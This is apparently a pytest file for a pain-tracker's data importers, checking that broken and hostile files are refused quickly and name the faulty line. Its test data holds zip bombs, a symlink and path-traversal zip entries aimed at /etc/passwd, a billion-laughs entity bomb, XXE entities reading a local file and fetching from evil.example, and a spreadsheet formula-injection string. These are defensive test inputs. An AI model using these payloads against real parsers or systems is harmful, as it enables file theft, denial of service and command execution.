"""Hostile and broken files: refused in one sentence, quickly, naming the place; nothing is accepted silently."""

import gzip
import io
import time as stopwatch
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator

import pytest

from tests.exchange.importers.foreign_files import (
    ANY_CSV,
    APPLE,
    BEARABLE,
    DAYLIO,
    TRACK_AND_GRAPH,
    WORDS,
    apple_pain,
    apple_xml,
    arrived,
    batch,
    loop_zip,
    pain_diary,
    zipped,
)
from tracker.errors import ImportRefused
from tracker.record import ClientRecord

FUTURE = "2999-01-01"
BAD_VALUES = ("", "abc", "1e400", "nan", "-inf", "=1+1", "+7", "@7", "0x7", "7;7", "\N{ROMAN NUMERAL SEVEN}", "1,234", "--7", "7.", ".7",
              "1:2", "1:2:3:4", "99999999999999999999", "'7", "7\t7")  # fmt: skip
BAD_DAYS = ("", "yesterday", "2024-13-01", "2024-02-30", "2024-00-10", "0000-01-01", FUTURE, "1899-12-31",
            "20240301", "2024-03-01T", "=TODAY()", "01 March", "2024-3", "-2024-03-01")  # fmt: skip


def bad_files() -> Iterator[tuple[str, bytes, tuple[str, ...]]]:
    """Yield files that are wrong on one line: what they are, the file, and the mapping that would take the line."""
    pain = ("Leg pain=leg_pain_nrs:0-10",)
    head = "FeatureName,Timestamp,Value,Label,Note\nLeg pain,2024-03-01T08:00:00Z,9,,\n"
    for value in BAD_VALUES:
        cell = '"' + value + '"'
        yield (
            f"track-and-graph value {value!r}",
            f"{head}Leg pain,2024-03-02T08:00:00Z,{cell},,\n".encode(),
            pain,
        )
        # A word for "nothing was rated" leaves its row out, and says so.
        if value.strip() and value != "nan":
            yield (
                f"any-csv value {value!r}",
                f"day;pain\n2024-03-01;9\n2024-03-02;{cell}\n".encode(),
                ("pain=leg_pain_nrs:0-10",),
            )
            yield (
                f"bearable value {value!r}",
                f"date formatted,category,rating/amount,detail\n2024-03-02,Symptom,{cell},Ache\n".encode(),
                ("Symptom: Ache=leg_pain_nrs:0-10",),
            )
        yield (
            f"loop amount {value!r}",
            loop_zip(leg=f"Date,Value,Notes\n2024-03-01,7000,\n2024-03-02,{cell},\n"),
            pain,
        )
        yield f"loop mark {value!r}", loop_zip(stretch=f"Date,Value,Notes\n2024-03-02,{cell},\n"), pain
    for day in BAD_DAYS:
        yield f"track-and-graph day {day!r}", f"{head}Leg pain,{day}T08:00:00Z,7,,\n".encode(), pain
        yield f"loop day {day!r}", loop_zip(leg=f"Date,Value,Notes\n{day},7000,\n"), pain
        yield (
            f"daylio day {day!r}",
            f"full_date,date,weekday,time,mood,activities,note\n{day},x,x,08:00,bad,,\n".encode(),
            ("mood=leg_pain_nrs:bad=7",),
        )
        yield (
            f"bearable day {day!r}",
            f"date formatted,category,rating/amount,detail\n{day},Symptom,4,Ache\n".encode(),
            ("Symptom: Ache=leg_pain_nrs:0-4",),
        )
        yield (
            f"apple day {day!r}",
            apple_xml(apple_pain("Mild", f"{day} 08:00:00 +0000")),
            (f"LowerBackPain=back_pain_nrs:{WORDS}",),
        )
        yield f"pain-diary day {day!r}", pain_diary([{"_id": 1, "date": day, "painDescription_id": 1}]), ()
        yield (
            f"any-csv day {day!r}",
            f"day;leg pain\n2024-03-01;9\n2024-03-05;9\n2024-03-06;9\n{day};7\n".encode(),
            ("leg pain=leg_pain_nrs:0-10",),
        )
    for clock in ("25:00", "12:60", "13:00 pm", "noon", "8", "=NOW()", "-1:00"):
        yield (
            f"daylio time {clock!r}",
            f"full_date,date,weekday,time,mood,activities,note\n2024-03-01,x,x,{clock},bad,,\n".encode(),
            ("mood=leg_pain_nrs:bad=7",),
        )
        yield f"track-and-graph time {clock!r}", f"{head}Leg pain,2024-03-02T{clock}Z,7,,\n".encode(), pain
    for level in (-1, 11, 7.5, "7", True, [7], {"a": 1}, 10**30):
        described = [{"_id": 1, "painLevel": level, "bodyRegions": "4"}]
        yield (
            f"pain-diary level {level!r}",
            pain_diary(
                [{"_id": 1, "date": "2024-03-01", "painDescription_id": 1}], paindescriptions=described
            ),
            (),
        )
    for name, text in (
        ("track-and-graph", TRACK_AND_GRAPH),
        ("daylio", DAYLIO),
        ("bearable", BEARABLE),
        ("any-csv", ANY_CSV),
    ):
        if name != "any-csv":  # there, a line of words under the table is left out, and said
            yield f"{name} too few cells", f"{text}x\n".encode(), ()
        yield f"{name} too many cells", (text + ",;" * 20 + "\n").encode(), ()
        yield f"{name} open quote", f'{text}"open,{"," * 3}\n'.encode(), ()
        yield f"{name} NUL", text.replace("\n", "\n\0", 1).encode(), ()
        yield f"{name} bell", text.replace("\n", "\n\a", 1).encode(), ()
        yield f"{name} no UTF-8 and no Windows-1252", text.encode() + b"\x81\x8d\n", ()
        if name != "any-csv":  # there, each of two columns of one name is asked about
            head = text.split("\n")[0].strip()
            yield f"{name} column twice", text.replace(head, f"{head},note,note", 1).encode(), ()
    for severity in ("Extreme", "", "1", "severe"):
        yield (
            f"apple severity {severity!r}",
            apple_xml(apple_pain(severity)),
            (f"LowerBackPain=back_pain_nrs:{WORDS}",),
        )
    yield "apple cut off", APPLE[:-40], ()
    yield "apple not XML", b"<HealthData><Record", ()
    yield "apple crossed tags", APPLE.replace(b"</HealthData>", b"</Health>"), ()
    yield "apple other root", b"<?xml version='1.0'?>\n<html></html>", ()
    yield "pain-diary cut off", pain_diary()[:-30], ()


FILES = list(bad_files())


def test_there_are_two_hundred() -> None:
    assert len(FILES) >= 200


def test_no_wrong_row_is_taken_and_each_refusal_names_its_place(record: ClientRecord) -> None:
    taken, unnamed = [], []
    for name, data, choices in FILES:
        try:
            made = batch(data, *choices)
            record.imports.bring_in(made.entries)
            taken.append(name)
        except ImportRefused as refused:
            if not any(word in refused.sentence for word in ("Line ", "line ", "Row ")):
                unnamed.append((name, refused.sentence))
    assert taken == []
    assert unnamed == []
    assert record.entries.all() == ()


def symlink() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("Habits.csv")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def flipped(data: bytes) -> bytes:
    middle = data.index(b"Leg pain") + 60
    return data[:middle] + bytes([data[middle] ^ 0xFF]) + data[middle + 1 :]


LAUGHS = b"<?xml version='1.0'?>\n<!DOCTYPE HealthData [<!ENTITY a 'ha'>" + b"".join(
    f"<!ENTITY a{n} '&a{n - 1 if n else ''};&a{n - 1 if n else ''};'>".encode() for n in range(1, 30)
) + b"]>\n<HealthData>&a29;</HealthData>"  # fmt: skip
# Made when they are asked for: together they take seconds.
BOMBS: dict[str, tuple[Callable[[], bytes], str]] = {
    "a zip bomb as the habits": (lambda: zipped({"Habits.csv": b"\0" * 104_000_000}), "unzips to more than 25 MB"),
    "a zip bomb as health data": (
        lambda: zipped({"export.xml": b"<HealthData>" + b" " * 104_000_000 + b"</HealthData>"}), "far more than such a file",
    ),
    "a link": (lambda: symlink(), "is a link"),
    "a name that climbs": (lambda: zipped({"../../etc/Habits.csv": "x", "Habits.csv": "x"}), "unsafe name"),
    "a name from the root": (lambda: zipped({"/Habits.csv": "x"}), "unsafe name"),
    "a name of another system": (lambda: zipped({"a\\..\\Habits.csv": "x"}), "unsafe name"),
    "a zip in a zip": (lambda: zipped({"more.zip": zipped({"Habits.csv": "x"})}), "packed itself, which is not read"),
    "gzip in a zip": (lambda: zipped({"export.xml.gz": gzip.compress(b"x" * 1000)}), "packed itself, which is not read"),
    "a zip of 50,000": (lambda: zipped({f"{n}.csv": "" for n in range(50_000)}, zipfile.ZIP_STORED), "more files than are read"),
    "another method": (lambda: zipped({"Habits.csv": "x"}, zipfile.ZIP_BZIP2), "ordinary one"),
    "a damaged zip": (lambda: loop_zip()[:-30], "damaged"),
    "gzip": (lambda: gzip.compress(b"\0" * 104_000_000), "gzip"),
    "a workbook": (lambda: zipped({"[Content_Types].xml": "", "xl/workbook.xml": ""}), "spreadsheet"),
    "a database": (lambda: b"SQLite format 3\0" + bytes(100), "database backup"),
    "a PDF": (lambda: b"%PDF-1.7\n", "PDF"),
    "another zip": (lambda: zipped({"readme.txt": "x"}), "none that is read here"),
    "200,000 columns": (lambda: b",".join(b"c%d" % n for n in range(200_000)) + b"\n" + b"," * 199_999, "more than 200 columns"),
    "200,000 semicolons": (lambda: b";".join(b"c%d" % n for n in range(200_000)) + b"\n", "more than 200 columns"),
    "201 columns": (lambda: ",".join(f"c{n}" for n in range(201)).encode() + b"\n", "more than 200 columns"),
    "a cell of 20 MB": (lambda: b"day,pain\n2024-03-01," + b"7" * 20_000_000, "larger than 5 MB"),
    "a cell of 4 MB": (lambda: b"day,pain\n2024-03-01," + b"7" * 4_000_000 + b"\n", "far too long|10,000 characters"),
    "too many rows": (lambda: b"day,pain\n" + b"2024-03-01,7\n" * 50_001, "more than 50,000 rows"),
    "a billion laughs": (lambda: LAUGHS, "declares entities"),
    "a file from the disk": (
        lambda: b"<!DOCTYPE HealthData [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><HealthData>&x;</HealthData>", "declares entities",
    ),
    "an entity of a parameter": (
        lambda: b"<!DOCTYPE HealthData [<!ENTITY % x SYSTEM 'http://evil.example/x'>%x;]><HealthData/>", "declares entities",
    ),
    "a default for every element": (
        lambda: b'<!DOCTYPE HealthData [<!ATTLIST x a CDATA "' + b"A" * 1_000_000 + b'">]><HealthData>' + b"<x/>" * 2_000
        + b"</HealthData>", "declares default values",
    ),
    "one habit many times": (
        lambda: zipped({
            "Habits.csv": "Position,Name\n" + "001,a\n" * 50_000,
            "001 a/Checkmarks.csv": "Date,Value\n" + "2024-03-01,UNKNOWN\n" * 2_000,
        }), "position '001' is there twice",
    ),
    "a thousand habits of 5 MB": (
        lambda: zipped({
            "Habits.csv": "Position,Name\n" + "".join(f"{n:03},a\n" for n in range(1, 31)),
            **{f"{n:03} a/Checkmarks.csv": "Date,Value\n" + "\n" * 1_000_000 for n in range(1, 31)},
        }), "unzips to more than 25 MB",
    ),
    "a moment of 9,000 spaces": (
        lambda: b"day,pain\n" + f"2024-03-01 10:00{' ' * 9_000}am,7\n".encode() * 100, "no column under this header",
    ),
    "an endless attribute": (lambda: b"<HealthData><Record type='" + b"x" * 20_000_000, "far too long"),
    "XML in an odd encoding": (lambda: b"<?xml version='1.0' encoding='shift_jis'?>\n<HealthData/>", "encoding that is not read"),
    "XML in no encoding": (lambda: b"<?xml version='1.0' encoding='nonsense'?>\n<HealthData/>", "encoding|broken"),
    "lists for ids": (lambda: pain_diary([{"_id": [1], "date": "x", "painDescription_id": {}}]), "Row 1 of diaryentries"),
    "deep JSON": (lambda: b'{"database":' + b"[" * 200_000, "broken or cut off|not a Pain Diary backup"),
    "other JSON": (lambda: b'{"database": {"content": [{"tableName": "diaryentries", "values": [7]}]}}', "no columns"),
    "an archive of another app": (lambda: b'{"hello": 1}', "comes in by itself"),
    "half of UTF-16": (lambda: ANY_CSV.encode("utf-16")[:-1], "cut off or damaged"),
    "half of UTF-16 without its mark": (lambda: ANY_CSV.encode("utf-16-le")[:-1], "cut off or damaged"),
    "UTF-32 without its mark": (lambda: ANY_CSV.encode("utf-32-le"), "control character"),
    "nothing": (lambda: b"", "empty"),
    "spaces": (lambda: b" \n \n", "empty"),
    "a header alone": (lambda: b"day,pain\n", "no row under it"),
    "no days at all": (lambda: b"a,b\n1,2\n", "no column under this header holds days"),
}  # fmt: skip


@pytest.mark.parametrize("name", BOMBS)
def test_what_could_do_harm_is_refused_at_once_and_small(name: str) -> None:
    make, sentence = BOMBS[name]
    data = make()
    tracemalloc.start()
    begun = stopwatch.process_time()
    try:
        with pytest.raises(ImportRefused, match=sentence):
            arrived(data)
        seconds = stopwatch.process_time() - begun
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    # Of the processor's time, which other work on the machine takes none of; what explodes takes minutes of it.
    assert seconds < 20
    assert peak < 100_000_000


def test_a_name_full_of_spaces_costs_no_more_than_another() -> None:
    head = "date formatted,category,rating/amount,detail\n"
    spaces, letters = (
        (head + f"2024-03-01,Symptom,3,a{filling * 9_000}b (Mild)\n" * 50).encode() for filling in " x"
    )
    assert _processor_seconds(spaces) < 20 * _processor_seconds(letters)
    assert [one.name for one in arrived(spaces).sources] == [f"Symptom: a{' ' * 9_000}b"]


def _processor_seconds(data: bytes) -> float:
    """Of three readings the shortest."""
    took = []
    for _ in range(3):
        begun = stopwatch.process_time()
        arrived(data)
        took.append(stopwatch.process_time() - begun)
    return min(took)


def test_a_formula_in_a_foreign_name_or_note_stays_text_and_is_escaped_on_the_way_out(
    record: ClientRecord,
) -> None:
    from tracker.exchange.csv_files import csv_of

    data = TRACK_AND_GRAPH.replace("after a walk", "=cmd|' /C calc'!A0").encode()
    record.imports.bring_in(batch(data).entries)
    assert {entry.note for entry in record.entries.all()} == {None, "=cmd|' /C calc'!A0"}
    assert b",'=cmd" in csv_of(record.entries, "check-in")


def test_a_byte_of_a_zip_gone_wrong_is_noticed() -> None:
    with pytest.raises(ImportRefused):
        arrived(flipped(loop_zip()))


def test_a_habit_whose_folder_breaks_a_line_is_refused_in_one() -> None:
    """Found by ten minutes of fuzzing: a zip's names may hold anything."""
    data = zipped(
        {
            "Habits.csv": "Position,Name\n001,Leg\n",
            "001 Leg\npain/Checkmarks.csv": "Date,Value\n2026-03-01,2,3\n1",
        }
    )
    with pytest.raises(ImportRefused) as refused:
        arrived(data)
    assert "\n" not in refused.value.sentence
